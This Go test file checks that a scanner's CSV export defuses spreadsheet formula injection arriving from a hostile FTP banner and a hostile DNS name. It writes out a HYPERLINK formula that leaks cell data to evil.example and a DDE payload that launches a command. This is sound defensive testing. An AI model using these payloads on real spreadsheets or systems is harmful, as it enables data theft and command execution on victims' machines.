package activities_test

import (
	"context"
	"encoding/csv"
	"fmt"
	"html"
	"io"
	"net"
	"strings"
	"testing"

	"github.com/scantron/scantron/activities"
	"github.com/scantron/scantron/internal/targethost"
	"github.com/scantron/scantron/scan"
	"github.com/scantron/scantron/workflows"
)

// TestCSVExportNeutralisesScannedBanner scans, with nmap, a listener whose
// FTP greeting carries a spreadsheet formula (nmap's vsftpd signature takes
// the version from it), gives the host a formula for a PTR name, and
// checks that the run's CSV export carries both as text, not as formulas
// a spreadsheet would run.
func TestCSVExportNeutralisesScannedBanner(t *testing.T) {
	const formula = `=HYPERLINK("http://evil.example/?leak="&A1,"details")`
	ctx := context.Background()
	st := newStore(t)
	port := targethost.Loopback(t, func(c net.Conn) {
		_, _ = c.Write([]byte("220 vsFTPd " + formula + " ready...\r\n"))
		c.Close()
	})

	site, err := st.CreateSite(ctx, scan.Site{Name: "hostile", Targets: []string{"127.0.0.1"}})
	if err != nil {
		t.Fatal(err)
	}
	prof, err := st.CreateProfile(ctx, scan.Profile{Name: "version", Scanner: scan.Nmap, Options: fmt.Sprintf("-n -Pn -sT -sV --version-intensity 0 -p %d", port)})
	if err != nil {
		t.Fatal(err)
	}
	ag, err := st.CreateAgent(ctx, scan.Agent{Name: "a1", TaskQueue: workflows.AgentTaskQueue("a1")})
	if err != nil {
		t.Fatal(err)
	}
	sc, err := st.CreateScan(ctx, scan.Scan{Name: "hostile", SiteID: site.ID, ProfileID: prof.ID, AgentID: ag.ID})
	if err != nil {
		t.Fatal(err)
	}
	f := &fixture{store: st, scanID: sc.ID}
	signer, verifier := newKeys(t)
	f.results = &activities.Results{Store: st, Objects: objs, Signer: signer, AgentObjects: objs}
	f.agent = &activities.Agent{Name: "a1", Verifier: verifier}
	env := newEnv(f)

	start, err := execute[activities.StartRunResult](t, env, f.results.StartRun, activities.StartRunInput{ScanID: sc.ID, WorkflowID: "wf-csv-injection"})
	if err != nil || len(start.Specs) != 1 {
		t.Fatalf("StartRun: %+v, %v", start, err)
	}
	d := f.dispatch(t, env, start, start.Specs[0], 1)
	scanned, err := execute[activities.RunScanResult](t, env, f.agent.RunScan, activities.RunScanInput{Spec: d.Spec})
	if err != nil {
		t.Fatalf("RunScan: %v", err)
	}
	// Our scans run nmap with -n, so no reverse DNS answers here; nmap's
	// output gets the PTR name a hostile DNS server would give, in the
	// element nmap writes it in, before the output is parsed.
	body, err := objs.Get(ctx, scanned.Raw)
	if err != nil {
		t.Fatal(err)
	}
	xml, err := io.ReadAll(body)
	body.Close()
	if err != nil {
		t.Fatal(err)
	}
	const ptr = `@SUM(1+1)*cmd|' /C calc'!A0`
	withName := strings.Replace(string(xml), "<hostnames>\n</hostnames>", `<hostnames><hostname name="`+html.EscapeString(ptr)+`" type="PTR"/></hostnames>`, 1)
	if withName == string(xml) {
		t.Fatalf("nmap's output has no empty <hostnames> to fill: %s", xml)
	}
	raw, err := objs.Put(ctx, scanned.Raw.Key+".ptr", strings.NewReader(withName), int64(len(withName)), "application/xml")
	if err != nil {
		t.Fatal(err)
	}
	if _, err := execute[activities.ParseResultsResult](t, env, f.results.ParseResults, activities.ParseResultsInput{
		RunID: start.RunID, ShardID: start.Specs[0].ShardID, Attempt: scanned.Attempt, Raw: raw, Agent: scanned.Agent, Signature: scanned.Signature, Nonce: d.Nonce,
	}); err != nil {
		t.Fatalf("ParseResults: %v", err)
	}
	exported, err := execute[activities.ExportResultsResult](t, env, f.results.ExportResults, activities.ExportResultsInput{RunID: start.RunID})
	if err != nil {
		t.Fatalf("ExportResults: %v", err)
	}
	body, err = objs.Get(ctx, exported.CSV)
	if err != nil {
		t.Fatal(err)
	}
	records, err := csv.NewReader(body).ReadAll()
	body.Close()
	if err != nil || len(records) != 2 {
		t.Fatalf("CSV %v, %v", records, err)
	}
	row := records[1]
	if row[9] != "ftp" || row[10] != "vsftpd" {
		t.Fatalf("nmap did not name the service from the banner: %v", row)
	}
	if row[5] != "'"+ptr {
		t.Errorf("hostname cell %q, want the PTR name behind a quote", row[5])
	}
	if row[11] != "'"+formula {
		t.Errorf("version cell %q, want the formula behind a quote", row[11])
	}
	for i, cell := range row {
		if cell != "" && (cell[0] == '=' || cell[0] == '+' || cell[0] == '-' || cell[0] == '@' || cell[0] == '\t' || cell[0] == '\r') {
			t.Errorf("column %s = %q would run in a spreadsheet", activities.CSVHeader[i], cell)
		}
	}
}
